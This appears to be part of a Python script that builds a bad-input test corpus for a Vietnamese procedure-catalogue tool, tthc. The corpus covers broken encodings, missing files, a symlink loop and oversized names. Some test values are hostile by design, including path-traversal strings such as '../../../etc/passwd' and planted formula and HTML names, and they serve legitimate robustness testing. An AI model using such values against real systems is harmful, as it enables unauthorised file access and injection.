    add("not-utf8", "a decision saved as Windows-1258, not UTF-8",
        {later: _decision("20/QĐ-UBND", "2017-05-02", [_entry("repealed", code_b)])
         .encode("cp1258", errors="replace")}, names=later, where="line 1")
    add("binary-decision", "random bytes in a .toml file",
        {later: bytes(random.Random(3).randrange(256) for _ in range(2048))}, names=later)
    add("bom-and-nul", "a BOM and NUL bytes inside a decision",
        {later: b"\xef\xbb\xbfnumber = \"20\x00\"\n"}, names=later, where="line 1")
    no_unit = add("no-unit", "no unit.toml", names="unit.toml")
    (no_unit / "unit.toml").unlink()
    unit_dir = add("unit-is-folder", "unit.toml is a folder", names="unit.toml")
    (unit_dir / "unit.toml").unlink()
    _write(unit_dir, "unit.toml/README", "a folder, not the unit file\n")
    dir_decision = add("decision-is-folder", "a folder named like a decision file "
                       "(decisions/2017/x.toml/)", expect="read")
    _write(dir_decision, "decisions/2017/x.toml/README", "a folder, not a decision file\n")
    file_decisions = add("decisions-is-file", "decisions is a file, not a folder",
                         names="decisions")
    shutil.rmtree(file_decisions / "decisions")
    (file_decisions / "decisions").write_text("not a folder\n", encoding="utf-8")
    add("empty-folder", "an empty folder", base=False, names="unit.toml")
    _write(root / "empty-folder", "README", "an empty catalogue folder\n")
    cases.append(Case(name="missing-folder", kind="catalog", path="catalogs/missing-folder",
                      what="a folder that does not exist", names="catalogs/missing-folder"))
    _write(root, "a-file", "not a catalogue\n")
    cases.append(Case(name="a-file", kind="catalog", path="catalogs/a-file",
                      what="a file where the catalogue folder is expected",
                      names="catalogs/a-file"))
    unit_text = (EXAMPLE / "unit.toml").read_text(encoding="utf-8")
    add("unit-bad-desk", "a desk whose level is not a level",
        {"unit.toml": unit_text.replace('level = "district"', 'level = "huyen"', 1)},
        names="unit.toml", where="$.desks[0].level")

    # The listing manifest (listings/listings.toml) that ``tthc audit`` reads without LISTING.
    manifest = "listings/listings.toml"
    add("manifest-syntax", "a listing manifest that is not TOML",
        {manifest: "as_of = 2019-12-31\n[[listings]\n"}, names=manifest)
    add("manifest-not-tables", "a listing manifest whose listings are a number",
        {manifest: "as_of = 2019-12-31\nlistings = 5\n"}, names=manifest)
    add("manifest-strings", "a listing manifest whose listings are file names, not tables",
        {manifest: 'listings = ["huyen.csv"]\n'}, names=manifest)
    add("manifest-defects", "a listing manifest whose defects are a number",
        {manifest: "defects = 3\n"}, names=manifest)
    add("manifest-path", "a listing manifest naming a file outside listings/",
        {manifest: '[[listings]]\ndesk = "huyen"\nfile = "../unit.toml"\n'}, names=manifest,
        where="listings[0]")
    add("manifest-missing", "a listing manifest naming a file that is not there",
        {manifest: '[[listings]]\ndesk = "huyen"\nfile = "huyen.csv"\n'},
        names="listings/huyen.csv")
    add("manifest-date", "a listing manifest whose date is a word",
        {manifest: 'as_of = "hôm nay"\n'}, names=manifest, where="as_of")

    # Valid catalogues with hostile text: the readers accept them, the writers must defuse them.
    hostile = [*_FORMULAS, *_HTML, *_PATHS]
    rows = _rows("real_procedures.csv")[3:3 + len(hostile)]
    news = [_new(row["code"], name, name if index % 3 == 0 else "Hộ tịch", "commune")
            for index, (row, name) in enumerate(zip(rows, hostile, strict=True))]
    add("control-characters", "a name, a processing time and a fee with NUL and other "
        "control characters (TOML escapes)",
        {later: _decision("20/QĐ-UBND", "2017-05-02", [
            _new("1.000001", "Đăng ký\x00 khai sinh\x07", "Hộ tịch", "commune",
                 time="\x00 05 ngày (\x00)", fees="\x00 50.000 đồng (lệ phí\x00)")])},
        expect="read")
    add("hostile-names", "procedure names and fields that are formulas, HTML and paths",
        {later: _decision("20/QĐ-UBND", "2017-05-02", news)}, expect="read")
    path_desk = unit_text.replace('id = "xa-tung-lam"', 'id = "../../escaped"', 1)
    add("path-desk-id", "a desk whose id is a relative path (../../escaped)",
        {"unit.toml": path_desk}, expect="read")
    add("path-number", "a decision whose number looks like a path",
        {later: _decision("../../../etc/passwd", "2017-05-02", [_entry("repealed", code_b)])},
        expect="read")
    return cases


def symlink_loop_catalog(folder: Path) -> Path:
    """The corpus's base catalogue with ``decisions/2016/loop`` linking to its parent folder.

    Made on demand (a loop in the repository would trip tools that walk it).
    """
    _base_catalog(folder)
    os.symlink("..", folder / "decisions" / "2016" / "loop")
    return folder


def long_name_catalog(folder: Path, chars: int = 2**20) -> Path:
    """A valid catalogue (the corpus's base) plus a procedure whose name has *chars* characters."""
    _base_catalog(folder)
    name = ("Đăng ký khai sinh " * (chars // 18 + 1))[:chars].strip()
    text = _decision("20/QĐ-UBND", "2017-05-02", [_new("1.000001", name, "Hộ tịch", "commune")])
    _write(folder, "decisions/2017/2017-05-02_20-qd-ubnd.toml", text)
    return folder


def valid_inputs(folder: Path) -> dict[str, Path]:
    """Well-formed inputs of each kind, from the real data (controls for the bad ones).

    Returns:
        ``{"log": ..., "listing": ..., "appendix": ..., "portal": ...}``: a dossier
        log of 20 rows, a posted list of 12 procedures, the repealed part of QĐ
        1766/QĐ-UBND as CSV, and the national portal's export for Bộ Tư pháp.
    """
    folder.mkdir(parents=True, exist_ok=True)
    return {
        "log": _write(folder, "log.csv", _csv_text(_log_lines(20))),
        "listing": _write(folder, "xa-tung-lam.csv", _csv_text(_listing_rows())),
        "appendix": _write(folder, "appendix.csv", _csv_text(_appendix_rows())),
        "portal": _write(folder, "portal.xlsx", PORTAL_XLSX.read_bytes()),
    }


def build(dest: Path) -> list[Case]:
    """Write the whole (small) corpus into *dest*, with ``cases.json`` and ``README.md``.

    Returns:
        The cases, input files first.
    """
    dest.mkdir(parents=True, exist_ok=True)
    cases = input_files(dest) + catalogs(dest)
    manifest = [asdict(case) for case in cases]
    (dest / "cases.json").write_text(
        json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    lines = ["# Bad-input corpus", "",
             "Generated by `python scripts/make_badinput.py --out tests/badinput` (do not edit):",
             "every file or folder here is an input tthc must refuse with exit code 2 and a",
             "message naming the file and the position (*error*), or may read (*read*), never",
             "crashing. `tests/test_badinput.py` gives each one to every command.", "",
             "| input | expect | what |", "|---|---|---|"]
    lines += [f"| `{case.path}` | {case.expect} | {case.what.replace('|', '/')} |"
              for case in cases]
    (dest / "README.md").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return cases


def load_cases(folder: Path) -> list[Case]:
    """The cases of a corpus written by :func:`build`, from its ``cases.json``."""
    data = json.loads((folder / "cases.json").read_text(encoding="utf-8"))
    return [Case(**{**item, "formats": tuple(item["formats"])}) for item in data]


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, required=True, help="the folder to write into")
    parser.add_argument("--list", action="store_true", help="print the cases")
    args = parser.parse_args(argv)
    sys.path.insert(0, str(REPO / "src"))
    cases = build(args.out)
    if args.list:
        for case in cases:
            print(f"{case.kind:<8} {case.expect:<6} {case.path:<48} {case.what}")
    size = sum(p.stat().st_size for p in args.out.rglob("*") if p.is_file() and not p.is_symlink())
    print(f"{len(cases)} cases, {size:,} bytes in {args.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
